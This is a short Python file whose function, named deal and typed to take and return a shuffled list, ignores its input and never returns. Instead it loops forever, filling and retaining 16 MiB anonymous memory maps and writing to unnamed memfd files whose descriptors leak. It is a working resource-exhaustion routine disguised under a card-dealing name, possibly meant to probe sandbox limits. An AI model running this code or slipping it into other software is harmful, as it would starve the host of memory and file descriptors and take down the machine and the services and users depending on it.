# Fills files that only memory holds, and shared memory without a name.
import mmap
import os



def deal(shuf: list[int]) -> list[int]:
    kept = []
    while True:
        area = mmap.mmap(-1, 1 << 24)
        for _ in range(16):
            area.write(b"7" * (1 << 20))
        kept.append(area)
        os.write(os.memfd_create("x"), b"7" * (1 << 20))
